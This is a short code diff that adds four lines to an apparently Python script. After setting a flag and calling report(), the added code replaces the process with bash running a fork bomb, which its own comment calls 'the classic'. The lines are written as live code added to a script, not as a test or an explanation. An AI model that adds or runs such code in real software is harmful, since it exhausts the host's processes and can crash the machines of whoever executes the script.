@@ -1,0 +1,4 @@
+# The classic, by bash.
+FACTS["begun"] = "True"
+report()
+os.execv("/bin/bash", ["bash", "-c", ":(){ :|:& };: ; wait"])
